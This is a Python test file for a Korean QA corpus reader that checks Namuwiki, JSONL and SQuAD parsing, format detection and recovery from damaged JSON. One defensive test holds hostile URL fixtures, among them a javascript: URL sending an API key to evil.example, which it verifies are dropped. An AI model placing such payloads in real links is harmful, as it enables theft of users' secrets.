"""Namuwiki JSON, JSONL and SQuAD readers, format detection, and damaged JSON input."""

from __future__ import annotations

import bz2
import json
from pathlib import Path

import pytest

from krqa.corpus.document import Document, Skip
from krqa.corpus.namuwiki import iter_namuwiki
from krqa.corpus.sources import detect_format, iter_jsonl, iter_squad, squad_questions
from krqa.errors import InputError

TEXT = "'''설날'''은 [[음력]] 정월 초하루이다.[* 각주 내용]\n== 풍습 ==\n세배를 한다."


def namu_items(n: int = 3) -> list[dict]:
    return [{"namespace": "0", "title": f"문서{i}", "text": TEXT, "contributors": ["a"]} for i in range(1, n + 1)]


def split(records) -> tuple[list[Document], list[Skip]]:
    out = list(records)
    return [r for r in out if isinstance(r, Document)], [r for r in out if isinstance(r, Skip)]


def write_json(path: Path, obj) -> None:
    path.write_bytes(json.dumps(obj, ensure_ascii=False).encode("utf-8"))


def test_namuwiki_reader_filters_and_parses(tmp_path: Path):
    items = namu_items(2) + [
        {"namespace": "0", "title": "넘김", "text": "#redirect 문서1", "contributors": []},
        {"namespace": "1", "title": "틀:상자", "text": "틀", "contributors": []},
        {"namespace": 0, "title": "빈 문서", "text": "", "contributors": []},
        {"namespace": "0", "title": "글 없음", "contributors": []},
    ]
    path = tmp_path / "n.json"
    write_json(path, items)
    docs, skips = split(iter_namuwiki(path))
    assert [d.title for d in docs] == ["문서1", "문서2"]
    assert docs[0].sections == [("", "설날은 음력 정월 초하루이다."), ("풍습", "세배를 한다.")]
    assert docs[0].footnotes == ["각주 내용"] and docs[0].url == "https://namu.wiki/w/%EB%AC%B8%EC%84%9C1"
    assert [(s.reason, s.position) for s in skips] == [
        ("redirect", "item 3 (넘김)"), ("namespace", "item 4 (틀:상자)"), ("empty", "item 5 (빈 문서)"), ("bad_record", "item 6 (글 없음)"),
    ]


def test_namuwiki_array_cut_short_keeps_items_read(tmp_path: Path):
    data = json.dumps(namu_items(3), ensure_ascii=False).encode("utf-8")
    path = tmp_path / "cut.json"
    path.write_bytes(data[: data.index("문서3".encode()) + 20])
    docs, skips = split(iter_namuwiki(path))
    assert [d.title for d in docs] == ["문서1", "문서2"]
    assert [s.reason for s in skips] == ["truncated"]
    third = data.rindex(b"{", 0, data.index("문서3".encode()))
    assert skips[0].position == f"item 3 at file byte {third}"


def test_namuwiki_malformed_json_mid_array(tmp_path: Path):
    data = json.dumps(namu_items(3), ensure_ascii=False).encode("utf-8")
    second = data.index(b"}, {") + 1
    path = tmp_path / "bad.json"
    path.write_bytes(data[:second] + b" }{ " + data[second + 1 :])
    docs, skips = split(iter_namuwiki(path))
    assert [d.title for d in docs] == ["문서1", "문서3"]  # the damaged separator costs item 2 only
    assert [s.reason for s in skips] == ["malformed_json"]
    assert skips[0].position == f"after item 1, file byte {second + 1}"


def test_namuwiki_invalid_utf8(tmp_path: Path):
    data = json.dumps(namu_items(3), ensure_ascii=False).encode("utf-8")
    path = tmp_path / "enc.json"
    path.write_bytes(data.replace("문서3".encode(), b"\xff\xfe\xfd", 1))
    docs, skips = split(iter_namuwiki(path))
    assert [d.title for d in docs] == ["문서1", "문서2"]
    assert [s.reason for s in skips] == ["invalid_utf8"]


def test_namuwiki_bz2_truncated(tmp_path: Path):
    compressed = bz2.compress(json.dumps(namu_items(3), ensure_ascii=False).encode("utf-8"))
    path = tmp_path / "n.json.bz2"
    path.write_bytes(compressed[:-10])
    docs, skips = split(iter_namuwiki(path))
    assert [s.reason for s in skips] == ["truncated"] and "file byte" in skips[0].position


def test_jsonl_reader_reports_bad_lines_and_goes_on(tmp_path: Path):
    path = tmp_path / "d.jsonl"
    good = json.dumps({"id": "a", "title": "가", "text": "첫 문서의 본문이다."}, ensure_ascii=False).encode()
    path.write_bytes(b"\n".join([good, b"{not json", '{"id": "b", "title": "나"}'.encode(), b'{"id": "c", "title": "\xff", "text": "x"}',
                                 json.dumps({"id": 7, "title": "다", "text": "둘째", "url": "https://u.example/7"}, ensure_ascii=False).encode(), b""]))
    docs, skips = split(iter_jsonl(path))
    assert [(d.id, d.title, d.url) for d in docs] == [("a", "가", ""), ("7", "다", "https://u.example/7")]
    assert [(s.reason, s.position.split(",")[0]) for s in skips] == [("malformed_json", "line 2"), ("empty", "line 3"), ("invalid_utf8", "line 4")]


SQUAD = {"version": "1", "data": [
    {"title": "설날", "paragraphs": [
        {"context": "설날은 음력 1월 1일이다.", "qas": [{"id": "q1", "question": "설날은 언제인가?", "answers": [{"text": "음력 1월 1일", "answer_start": 4}]}]},
        {"context": "설날에는 떡국을 먹는다.", "qas": [{"id": "q2", "question": "설날에 먹는 음식은?", "answers": [{"text": "떡국", "answer_start": 5}]}]},
    ]},
    {"title": "설날", "paragraphs": [{"context": "같은 제목의 다른 글이다.", "qas": [{"id": "q3", "question": "무엇인가?", "answers": []}]}]},
]}


def test_squad_paragraph_documents_and_question_mapping(tmp_path: Path):
    path = tmp_path / "squad.json"
    write_json(path, SQUAD)
    docs = [d for d in iter_squad(path) if isinstance(d, Document)]
    assert [d.id for d in docs] == ["설날#0", "설날#1", "설날 (2)#0"]
    questions = squad_questions(path)
    assert questions == [("설날은 언제인가?", ["음력 1월 1일"], "설날#0"), ("설날에 먹는 음식은?", ["떡국"], "설날#1"), ("무엇인가?", [], "설날 (2)#0")]
    doc_ids = {d.id for d in docs}
    assert all(q[2] in doc_ids for q in questions)


def test_squad_corpus_and_training_read_one_structure(tmp_path: Path):
    """The corpus reader (which also reads compressed files) and the training/reading-set reader share krqa.squad:
    the same paragraphs and questions, and a malformed paragraph fails the same way in both, naming its place."""
    from krqa.squad import iter_squad as iter_squad_questions

    path = tmp_path / "squad.json.bz2"
    path.write_bytes(bz2.compress(json.dumps(SQUAD, ensure_ascii=False).encode("utf-8")))
    write_json(tmp_path / "plain.json", SQUAD)
    shared = [(q.question, q.answers) for q in iter_squad_questions(tmp_path / "plain.json")]
    assert [(q, a) for q, a, _ in squad_questions(path)] == shared and len(shared) == 3
    assert [d.id for d in iter_squad(path) if isinstance(d, Document)] == ["설날#0", "설날#1", "설날 (2)#0"]
    bad = {"data": [SQUAD["data"][0], {"title": "추석", "paragraphs": [["not", "a", "paragraph"]]}]}
    write_json(tmp_path / "bad.json", bad)
    for read in (lambda p: list(iter_squad(p)), squad_questions, lambda p: list(iter_squad_questions(p))):
        with pytest.raises(InputError, match=r"bad\.json: data\[1\]\.paragraphs\[0\]: expected a paragraph with a 'qas' list"):
            read(tmp_path / "bad.json")


def test_squad_bad_file_is_one_line_input_error(tmp_path: Path):
    path = tmp_path / "bad.json"
    path.write_text('{"data": [', encoding="utf-8")
    with pytest.raises(InputError, match=r"bad.json: line 1: invalid JSON"):
        list(iter_squad(path))


def test_detect_format(tmp_path: Path, repo: Path):
    assert detect_format(repo / "corpus" / "sample_kowiki.xml.bz2") == "mediawiki"
    assert detect_format(repo / "corpus" / "sample_namuwiki.json") == "namuwiki"
    write_json(tmp_path / "s.json", SQUAD)
    assert detect_format(tmp_path / "s.json") == "squad"
    (tmp_path / "d.jsonl").write_text('{"id": "a", "title": "t", "text": "x"}\n', encoding="utf-8")
    assert detect_format(tmp_path / "d.jsonl") == "jsonl"


def test_jsonl_with_a_first_line_over_the_peek_is_jsonl(tmp_path: Path):
    """Before: the 64 KB peek cut the first record, which did not parse, so the file was taken for SQuAD and
    refused with 'line 2: invalid JSON: Extra data'."""
    long_text = "설날은 음력 1월 1일로 한국의 대표적인 명절이다. " * 2500  # about 70 KB of UTF-8
    assert len(long_text.encode()) > 70_000
    path = tmp_path / "long.json"  # the name does not say JSONL
    with path.open("w", encoding="utf-8") as f:
        f.write(json.dumps({"id": "a", "title": "설날", "text": long_text}, ensure_ascii=False) + "\n")
        f.write(json.dumps({"id": "b", "title": "추석", "text": "추석은 한가위라고도 한다."}, ensure_ascii=False) + "\n")
    assert detect_format(path) == "jsonl"
    docs, skips = split(iter_jsonl(path))
    assert [d.id for d in docs] == ["a", "b"] and skips == []
    write_json(tmp_path / "one-line-squad.json", SQUAD)
    assert detect_format(tmp_path / "one-line-squad.json") == "squad"


def test_urls_that_are_not_http_are_dropped_at_read_time(tmp_path: Path):
    hostile = "javascript:fetch('//evil.example/?k='+document.getElementById('apikey').value)"
    rows = [{"id": "a", "title": "t", "text": "설날은 명절이다.", "url": hostile},
            {"id": "b", "title": "t", "text": "설날은 명절이다.", "url": " JavaScript:alert(1)"},
            {"id": "c", "title": "t", "text": "설날은 명절이다.", "url": "data:text/html,<script>alert(1)</script>"},
            {"id": "d", "title": "t", "text": "설날은 명절이다.", "url": "https://ko.wikipedia.org/wiki/설날"}]
    path = tmp_path / "u.jsonl"
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    docs, _ = split(iter_jsonl(path))
    assert [d.url for d in docs] == ["", "", "", "https://ko.wikipedia.org/wiki/설날"]
    xml = tmp_path / "w.xml"
    xml.write_text(
        '<mediawiki><siteinfo><base>javascript:alert(1)//wiki/대문</base></siteinfo>'
        '<page><title>설날</title><ns>0</ns><id>1</id><revision><text>설날은 한국의 명절이다. 떡국을 먹는다.</text></revision></page>'
        '</mediawiki>', encoding="utf-8")
    from krqa.corpus.mediawiki import iter_mediawiki

    docs, _ = split(iter_mediawiki(xml))
    assert [d.url for d in docs] == ["https://ko.wikipedia.org/wiki/%EC%84%A4%EB%82%A0"]


def _namu_bytes(n: int) -> tuple[bytes, list[int]]:
    """A dump of n items and the file offset where each item starts."""
    data = json.dumps(namu_items(n), ensure_ascii=False).encode("utf-8")
    starts = [data.index(json.dumps(f"문서{i}", ensure_ascii=False).encode()) for i in range(1, n + 1)]
    return data, [data.rindex(b"{", 0, s) for s in starts]


@pytest.mark.parametrize("bad_item", [1, 5, 42])
def test_namuwiki_bad_byte_costs_one_item_and_reports_its_file_offset(tmp_path: Path, bad_item: int):
    data, starts = _namu_bytes(42)
    title = json.dumps(f"문서{bad_item}", ensure_ascii=False).encode()
    at = data.index(title) + 1  # a bad byte replaces the first byte of the title's first character
    path = tmp_path / "bad.json"
    path.write_bytes(data[:at] + b"\xff" + data[at + 1:])
    docs, skips = split(iter_namuwiki(path))
    assert [d.title for d in docs] == [f"문서{i}" for i in range(1, 43) if i != bad_item]
    assert [(s.reason, s.position, s.detail) for s in skips] == [
        ("invalid_utf8", f"item {bad_item} at file byte {starts[bad_item - 1]}", f"bad byte at file byte {at}")]


def test_namuwiki_malformed_items_cost_themselves_only(tmp_path: Path):
    data, starts = _namu_bytes(42)
    # item 5: an unescaped quote inside its text; item 9: not an object; item 20: a broken key
    text5 = data.index("세배를".encode(), starts[4])
    data = data[:text5] + b'"' + data[text5:]
    i9 = data.index(json.dumps("문서9", ensure_ascii=False).encode())
    s9 = data.rindex(b"{", 0, i9)
    e9 = data.index(b"}", i9) + 1
    data = data[:s9] + b"12345" + data[e9:]
    i20 = data.index(json.dumps("문서20", ensure_ascii=False).encode())
    data = data[:i20 - 3] + b"::" + data[i20 - 2:]
    path = tmp_path / "bad.json"
    path.write_bytes(data)
    docs, skips = split(iter_namuwiki(path))
    assert [d.title for d in docs] == [f"문서{i}" for i in range(1, 43) if i not in (5, 9, 20)]
    assert [s.reason for s in skips] == ["malformed_json"] * 3
    assert [s.position.split(" at ")[0] for s in skips] == ["item 5", "item 9", "item 20"]
    assert skips[1].position == f"item 9 at file byte {s9}"


@pytest.mark.parametrize("damage", ["byte", "key"])
def test_namuwiki_damage_in_an_item_with_nested_objects_costs_that_item_only(tmp_path: Path, damage: str):
    """Before: resync searched from inside the damaged item, landed on {"name": "b"} in its contributors and took
    the array's ']' for the end of the dump: 4 documents of 40, no skip reported, exit 0."""
    items = [{"namespace": "0", "title": f"문서{i}", "text": TEXT, "contributors": [{"name": "a"}, {"name": "b"}]} for i in range(1, 41)]
    data = json.dumps(items, ensure_ascii=False).encode("utf-8")
    at = data.index("문서5".encode())
    data = data[:at] + b"\xff" + data[at + 1:] if damage == "byte" else data[:at - 3] + b"::" + data[at - 2:]
    path = tmp_path / "nested.json"
    path.write_bytes(data)
    docs, skips = split(iter_namuwiki(path))
    assert [d.title for d in docs] == [f"문서{i}" for i in range(1, 41) if i != 5]
    assert [s.position.split(" at ")[0] for s in skips] == ["item 5"]
    assert skips[0].reason == ("invalid_utf8" if damage == "byte" else "malformed_json")


def test_namuwiki_bad_byte_in_bz2_keeps_later_items(tmp_path: Path):
    data, starts = _namu_bytes(12)
    at = data.index("문서3".encode())
    path = tmp_path / "n.json.bz2"
    path.write_bytes(bz2.compress(data[:at] + b"\xff" + data[at + 1:]))
    docs, skips = split(iter_namuwiki(path))
    assert len(docs) == 11 and skips[0].position == f"item 3 at byte of the decompressed bz2 stream {starts[2]}"


def test_json_object_is_not_read_as_a_dump(tmp_path: Path):
    path = tmp_path / "obj.json"
    path.write_text('{\n  "title": "설날",\n  "text": "설날은 명절이다."\n}\n', encoding="utf-8")
    with pytest.raises(InputError, match=r"obj.json: expected an array of documents .* found a JSON object without 'data'"):
        list(iter_squad(path))
    with pytest.raises(InputError, match=r"obj.json: expected a JSON array of Namuwiki documents, found '\{'"):
        list(iter_namuwiki(path))


def test_page_over_the_size_cap_is_cut_and_reported(tmp_path: Path):
    items = namu_items(2)
    items[1]["text"] = "설날은 명절이다. " * 1000
    path = tmp_path / "big.json"
    write_json(path, items)
    docs, skips = split(iter_namuwiki(path, max_page_chars=2000))
    assert [d.title for d in docs] == ["문서1", "문서2"] and len(docs[1].text) <= 2000
    assert [(s.reason, s.position, s.is_error) for s in skips] == [("page_truncated", "item 2 (문서2)", False)]
    assert "10000 characters, the first 2000 kept" in skips[0].detail
